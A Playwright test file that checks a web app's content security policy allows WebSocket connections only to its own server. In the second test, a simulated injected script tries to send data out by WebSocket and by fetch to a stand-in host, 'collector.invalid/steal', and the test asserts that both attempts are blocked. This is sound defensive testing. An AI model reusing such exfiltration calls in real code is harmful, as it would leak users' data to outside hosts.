import { expect, test, type Page, type WebSocket as PageSocket } from '@playwright/test';
import { logIn } from './station';

// The page's content security policy as Chromium enforces it: connect-src 'self' lets the app
// reach its own station server, WebSocket included (CSP Level 3), and nothing else.

/** Chromium reports every blocked load on the console ("Refused to connect to …"). */
function policyRefusals(page: Page): string[] {
  const refusals: string[] = [];
  page.on('console', (message) => {
    if (message.text().includes('Content Security Policy')) refusals.push(message.text());
  });
  return refusals;
}

test('the page opens its WebSocket to its own station server under the policy', async ({ page }) => {
  const refusals = policyRefusals(page);
  // The page sends its session token as soon as the socket is open.
  const opened = new Promise<PageSocket>((resolve) => page.on('websocket', (ws) => ws.once('framesent', () => resolve(ws))));
  await logIn(page, 'grace', '9999');
  const ws = await opened;
  expect(new URL(ws.url())).toMatchObject({ host: new URL(page.url()).host, pathname: '/ws' });
  expect(refusals).toEqual([]);
});

test('a script slipped into the page can reach no other host, by WebSocket or fetch', async ({ page }) => {
  await logIn(page, 'grace', '9999');
  // What an injected script would try: send what it found to a host of its own.
  const blocked = await page.evaluate(async () => {
    // The header's policy and the page's meta tag each report a refusal.
    const violations = new Set<string>();
    document.addEventListener('securitypolicyviolation', (event) => violations.add(`${event.effectiveDirective} ${event.blockedURI}`));
    const attempts = [
      new Promise<void>((settle) => {
        try {
          const ws = new WebSocket('wss://collector.invalid/steal');
          ws.onerror = () => settle();
          ws.onclose = () => settle();
        } catch {
          settle();
        }
      }),
      fetch('https://collector.invalid/steal', { method: 'POST', body: 'lots' }).then(
        () => undefined,
        () => undefined,
      ),
    ];
    await Promise.all(attempts);
    // Violation reports are queued as tasks: let them run before reading them.
    await new Promise((next) => setTimeout(next, 0));
    return [...violations].sort();
  });
  expect(blocked).toEqual(['connect-src https://collector.invalid/steal', 'connect-src wss://collector.invalid/steal']);
});
